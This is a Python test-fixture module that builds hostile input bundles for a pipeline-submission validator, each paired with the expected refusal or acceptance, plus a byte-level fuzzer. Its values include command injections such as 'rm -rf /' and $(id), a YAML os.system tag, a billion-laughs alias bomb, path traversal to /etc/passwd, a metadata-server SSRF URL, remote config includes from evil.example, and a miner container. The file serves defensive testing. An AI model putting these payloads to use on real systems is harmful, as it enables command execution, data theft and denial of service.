"""The hostile inputs: mutations of two valid bundles (the demo Snakemake pipeline and nf-core/scrnaseq,
whose schema here is a stand-in written by the test, since the real one is only in ../shared), each with
the outcome policy requires. Every one goes through both the inbox and POST /runs."""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
DEMO = ROOT / "examples" / "demo-bundle"
FASTQ = "gs://arc-demo-data/fastq/sample{n}_R{r}.fastq.gz"
SHEET_HEAD = "sample,fastq_1,fastq_2\n"


def _row(name: str, n: int = 1) -> str:
    return f"{name},{FASTQ.format(n=n, r=1)},{FASTQ.format(n=n, r=2)}\n"


DEMO_SHEET = SHEET_HEAD + "".join(_row(f"sample{n}", n) for n in (1, 2, 3))
DEMO_MANIFEST = "pipeline: arc/fastq-stats\nrevision: '1.0.0'\nname: chaos\nsubmitter: chaos@example.org\n"
NF_MANIFEST = "pipeline: nf-core/scrnaseq\nrevision: '4.0.0'\nname: chaos-nf\nsubmitter: chaos@example.org\n"
NF_PARAMS = "aligner: star\n"
NF_CONFIG = "process {\n  withName: 'STAR_ALIGN' {\n    cpus = 8\n    memory = '32 GB'\n  }\n}\n"


@dataclass(frozen=True)
class Hostile:
    name: str
    files: dict[str, bytes]
    expect: str  # "refused" or "accepted"
    refused_file: str = ""  # the file a refusal must name ("" = any bundle file)


def demo(**changes: bytes | str | None) -> dict[str, bytes]:
    """The demo bundle with files replaced (str or bytes) or removed (None)."""
    files = {p.name: p.read_bytes() for p in DEMO.iterdir() if p.is_file()}
    files["run.yaml"] = DEMO_MANIFEST.encode()
    return _apply(files, changes)


def nextflow(**changes: bytes | str | None) -> dict[str, bytes]:
    files = {
        "run.yaml": NF_MANIFEST.encode(),
        "samplesheet.csv": DEMO_SHEET.encode(),
        "params.yaml": NF_PARAMS.encode(),
        "nextflow.config": NF_CONFIG.encode(),
    }
    return _apply(files, changes)


def _apply(files: dict[str, bytes], changes: dict[str, bytes | str | None]) -> dict[str, bytes]:
    out = dict(files)
    for key, value in changes.items():
        name = {"manifest": "run.yaml", "sheet": "samplesheet.csv", "params": "params.yaml"}.get(key, key)
        name = "nextflow.config" if name == "config" else name
        if value is None:
            out.pop(name, None)
        else:
            out[name] = value.encode("utf-8", "surrogatepass") if isinstance(value, str) else value
    return out


def _deep_yaml(depth: int) -> str:
    return "x: " + "[" * depth + "]" * depth + "\n"


def _alias_bomb(levels: int = 9) -> str:
    """Billion laughs: each level a list of ten references to the one before."""
    lines = ['a0: &a0 ["lol"]']
    for i in range(1, levels + 1):
        refs = ",".join(f"*a{i - 1}" for _ in range(10))
        lines.append(f"a{i}: &a{i} [{refs}]")
    return "\n".join(lines) + "\n"


def catalog(max_bytes: int) -> list[Hostile]:
    """Every hostile input of the bounded tier, and the two valid bundles as controls."""
    big_int = "9" * 5000
    r, s, p, c = "run.yaml", "samplesheet.csv", "params.yaml", "nextflow.config"
    return [
        Hostile("control/demo", demo(), "accepted"),
        Hostile("control/nextflow", nextflow(), "accepted"),
        Hostile(
            "control/sheet-crlf-bom", demo(sheet="\ufeff" + DEMO_SHEET.replace("\n", "\r\n")), "accepted"
        ),
        # ---- the manifest -------------------------------------------------------------------------------
        Hostile("manifest/not-yaml", demo(manifest="pipeline: [unclosed\n"), "refused", r),
        Hostile("manifest/a-list", demo(manifest="- pipeline\n- arc/fastq-stats\n"), "refused", r),
        Hostile("manifest/empty", demo(manifest=""), "refused", r),
        Hostile("manifest/missing", demo(manifest=None), "refused", r),
        Hostile("manifest/binary", demo(manifest=bytes(range(256))), "refused", r),
        Hostile(
            "manifest/latin-1", demo(manifest=b"pipeline: arc/fastq-stats\nname: caf\xe9\n"), "refused", r
        ),
        Hostile(
            "manifest/impossible-date",
            demo(manifest=DEMO_MANIFEST + "labels: {when: 2024-13-45}\n"),
            "refused",
            r,
        ),
        Hostile(
            "manifest/impossible-time",
            demo(manifest=DEMO_MANIFEST.replace("name: chaos", "name: 2024-01-01 25:61:99")),
            "refused",
            r,
        ),
        Hostile(
            "manifest/huge-integer", demo(manifest=DEMO_MANIFEST.replace("'1.0.0'", big_int)), "refused", r
        ),
        Hostile(
            "manifest/deep-nesting",
            demo(manifest=DEMO_MANIFEST + _deep_yaml(5000).replace("x:", "labels:")),
            "refused",
            r,
        ),
        Hostile("manifest/alias-bomb", demo(manifest=DEMO_MANIFEST + _alias_bomb()), "refused", r),
        Hostile(
            "manifest/python-tag",
            demo(
                manifest=DEMO_MANIFEST.replace(
                    "name: chaos", "name: !!python/object/apply:os.system ['true']"
                )
            ),
            "refused",
            r,
        ),
        Hostile("manifest/unknown-pipeline", demo(manifest="pipeline: evil/miner\n"), "refused", r),
        Hostile("manifest/pipeline-path-trick", demo(manifest="pipeline: ../../etc/passwd\n"), "refused", r),
        Hostile(
            "manifest/unknown-revision",
            demo(manifest="pipeline: arc/fastq-stats\nrevision: main\n"),
            "refused",
            r,
        ),
        Hostile(
            "manifest/engine-mismatch", demo(manifest=DEMO_MANIFEST + "engine: nextflow\n"), "refused", r
        ),
        Hostile(
            "manifest/profile-injection",
            demo(manifest=DEMO_MANIFEST + "profile: 'test; rm -rf /'\n"),
            "refused",
            r,
        ),
        Hostile("manifest/unknown-key", demo(manifest=DEMO_MANIFEST + "executor: local\n"), "refused", r),
        Hostile(
            "manifest/name-too-long",
            demo(manifest=DEMO_MANIFEST.replace("name: chaos", "name: " + "n" * 5000)),
            "refused",
            r,
        ),
        Hostile(
            "manifest/too-many-labels",
            demo(manifest=DEMO_MANIFEST + "labels: {" + ",".join(f"k{i}: v" for i in range(100)) + "}\n"),
            "refused",
            r,
        ),
        Hostile(
            "manifest/bad-submitter",
            demo(manifest=DEMO_MANIFEST.replace("chaos@example.org", "'not an email'")),
            "refused",
            r,
        ),
        Hostile(
            "manifest/oversize", demo(manifest=DEMO_MANIFEST + "#" * (max_bytes + 10) + "\n"), "refused", r
        ),
        Hostile(
            "manifest/nul-bytes",
            demo(manifest=DEMO_MANIFEST.replace("name: chaos", "name: cha\x00os")),
            "refused",
            r,
        ),
        # ---- the samplesheet ----------------------------------------------------------------------------
        Hostile("sheet/missing", demo(sheet=None), "refused", s),
        Hostile("sheet/empty", demo(sheet=""), "refused", s),
        Hostile("sheet/header-only", demo(sheet=SHEET_HEAD), "refused", s),
        Hostile(
            "sheet/unbalanced-quote",
            demo(sheet=SHEET_HEAD + '"sample1,' + FASTQ.format(n=1, r=1) + "\n"),
            "refused",
            s,
        ),
        Hostile(
            "sheet/missing-column",
            demo(sheet="sample,fastq_2\n" + "sample1," + FASTQ.format(n=1, r=2) + "\n"),
            "refused",
            s,
        ),
        Hostile(
            "sheet/extra-cells",
            demo(sheet=SHEET_HEAD + _row("sample1").rstrip("\n") + ",extra,more\n"),
            "refused",
            s,
        ),
        Hostile("sheet/binary", demo(sheet=SHEET_HEAD.encode() + bytes(range(256))), "refused", s),
        Hostile("sheet/nul", demo(sheet=SHEET_HEAD + _row("sam\x00ple1")), "refused", s),
        Hostile(
            "sheet/latin-1", demo(sheet=SHEET_HEAD.encode() + _row("caf\xe9").encode("latin-1")), "refused", s
        ),
        Hostile(
            "sheet/path-traversal", demo(sheet=SHEET_HEAD + "s1,../../etc/passwd.fastq.gz,\n"), "refused", s
        ),
        Hostile(
            "sheet/absolute-local-path", demo(sheet=SHEET_HEAD + "s1,/etc/shadow.fastq.gz,\n"), "refused", s
        ),
        Hostile("sheet/file-url", demo(sheet=SHEET_HEAD + "s1,file:///etc/passwd.fastq.gz,\n"), "refused", s),
        Hostile(
            "sheet/metadata-server",
            demo(sheet=SHEET_HEAD + "s1,http://169.254.169.254/computeMetadata/v1/x.fastq.gz,\n"),
            "refused",
            s,
        ),
        Hostile(
            "sheet/https-private-host",
            nextflow(sheet=SHEET_HEAD + "s1,https://10.0.0.1/a.fastq.gz,\n"),
            "refused",
            s,
        ),
        Hostile(
            "sheet/https-loopback",
            nextflow(sheet=SHEET_HEAD + "s1,https://localhost/a.fastq.gz,\n"),
            "refused",
            s,
        ),
        Hostile(
            "sheet/other-bucket-missing",
            demo(sheet=SHEET_HEAD + "s1,gs://arc-demo-data/nope_R1.fastq.gz,\n"),
            "refused",
            s,
        ),
        Hostile("sheet/bucket-name-trick", demo(sheet=SHEET_HEAD + "s1,gs://../x.fastq.gz,\n"), "refused", s),
        Hostile(
            "sheet/formula-equals", demo(sheet=SHEET_HEAD + _row('=HYPERLINK("http://evil")')), "refused", s
        ),
        Hostile("sheet/formula-plus", demo(sheet=SHEET_HEAD + _row("+1+1")), "refused", s),
        Hostile("sheet/formula-at", demo(sheet=SHEET_HEAD + _row("@SUM(A1)")), "refused", s),
        Hostile("sheet/space-in-sample", demo(sheet=SHEET_HEAD + _row("sample one")), "refused", s),
        Hostile(
            "sheet/duplicate-samples", demo(sheet=SHEET_HEAD + _row("s1", 1) + _row("s1", 2)), "refused", s
        ),
        Hostile("sheet/too-many-rows", demo(sheet=SHEET_HEAD + _row("s1") * 10_001), "refused", s),
        Hostile("sheet/oversize", demo(sheet=SHEET_HEAD + "#" * (max_bytes + 10)), "refused", s),
        Hostile(
            "sheet/wrong-extension",
            demo(sheet=SHEET_HEAD + "s1,gs://arc-demo-data/fastq/sample1_R1.bam,\n"),
            "refused",
            s,
        ),
        # ---- params -------------------------------------------------------------------------------------
        Hostile("params/not-yaml", demo(params="min_quality: [\n"), "refused", p),
        Hostile("params/a-list", demo(params="- 1\n- 2\n"), "refused", p),
        Hostile("params/date", demo(params="min_quality: 20\nwhen: 2024-01-01\n"), "refused", p),
        Hostile("params/impossible-date", demo(params="min_quality: 2024-13-45\n"), "refused", p),
        Hostile("params/binary-tag", demo(params="min_quality: !!binary aGVsbG8=\n"), "refused", p),
        Hostile("params/huge-integer", demo(params=f"min_quality: {big_int}\n"), "refused", p),
        Hostile("params/non-string-key", demo(params="1: 2\nmin_quality: 20\n"), "refused", p),
        Hostile("params/alias-bomb", demo(params=_alias_bomb()), "refused", p),
        Hostile("params/deep", demo(params=_deep_yaml(5000)), "refused", p),
        Hostile("params/out-of-range", demo(params="min_quality: 1000\n"), "refused", p),
        Hostile(
            "params/overrides-outdir",
            demo(params="min_quality: 20\noutdir: gs://someone-else/\n"),
            "refused",
            p,
        ),
        Hostile("params/overrides-input", demo(params="input: gs://someone-else/sheet.csv\n"), "refused", p),
        # nf-schema only warns about parameters the schema does not know; a value is data, never run
        Hostile("params/unknown-param", demo(params="min_quality: 20\nexecute: 'rm -rf /'\n"), "accepted"),
        Hostile("params/nan", demo(params="min_quality: .nan\n"), "refused", p),
        # ---- nextflow.config ----------------------------------------------------------------------------
        Hostile("config/for-snakemake", demo(config=NF_CONFIG), "refused", c),
        Hostile("config/executor-local", nextflow(config="process.executor = 'local'\n"), "refused", c),
        Hostile("config/google-project", nextflow(config="google.project = 'someone-else'\n"), "refused", c),
        Hostile(
            "config/include", nextflow(config="includeConfig 'https://evil.example/x.config'\n"), "refused", c
        ),
        Hostile(
            "config/groovy-execute",
            nextflow(config="params.x = \"${'touch /tmp/x'.execute()}\"\n"),
            "refused",
            c,
        ),
        Hostile("config/system-exit", nextflow(config="System.exit(0)\n"), "refused", c),
        Hostile(
            "config/ext-args-shell", nextflow(config="process.ext.args = '--quiet; touch x'\n"), "refused", c
        ),
        Hostile("config/ext-args-subshell", nextflow(config="process.ext.args = '$(id)'\n"), "refused", c),
        Hostile(
            "config/container-override",
            nextflow(config="process.container = 'evil/miner:latest'\n"),
            "refused",
            c,
        ),
        Hostile("config/workdir", nextflow(config="workDir = 'gs://someone-else/work'\n"), "refused", c),
        Hostile("config/unbalanced", nextflow(config="process {\n  cpus = 2\n"), "refused", c),
        Hostile("config/huge-integer", nextflow(config=f"process.cpus = {big_int}\n"), "refused", c),
        Hostile(
            "config/deep-braces", nextflow(config="process " + "{ " * 5000 + "}" * 5000 + "\n"), "refused", c
        ),
        Hostile("config/binary", nextflow(config=bytes(range(256))), "refused", c),
        Hostile("config/oversize", nextflow(config="// " + "x" * (max_bytes + 10) + "\n"), "refused", c),
        Hostile(
            "config/ext-args-ok", nextflow(config="process.ext.args = '--quiet --threads 4'\n"), "accepted"
        ),
    ]


def mutations(seed: int, count: int) -> Iterator[Hostile]:
    """Random byte-level damage to the demo bundle's files (the full tier's fuzz): a byte flipped, a span
    cut, a control character or a multi-byte fragment inserted. The outcome is not known in advance."""
    rng = random.Random(seed)
    base = demo()
    for i in range(count):
        name = rng.choice(["run.yaml", "samplesheet.csv", "params.yaml"])
        data = bytearray(base[name])
        for _ in range(rng.randint(1, 4)):
            at = rng.randrange(len(data) + 1)
            op = rng.randrange(4)
            if op == 0 and data:
                data[min(at, len(data) - 1)] ^= 1 << rng.randrange(8)
            elif op == 1:
                del data[at : at + rng.randint(1, 20)]
            elif op == 2:
                data[at:at] = bytes([rng.choice([0, 7, 10, 13, 27, 127])])
            else:
                data[at:at] = rng.choice(["é", "\u202e", "\ufeff", "😀"]).encode()[: rng.randint(1, 3)]
        yield Hostile(f"fuzz/{i}-{name}", {**base, name: bytes(data)}, "")
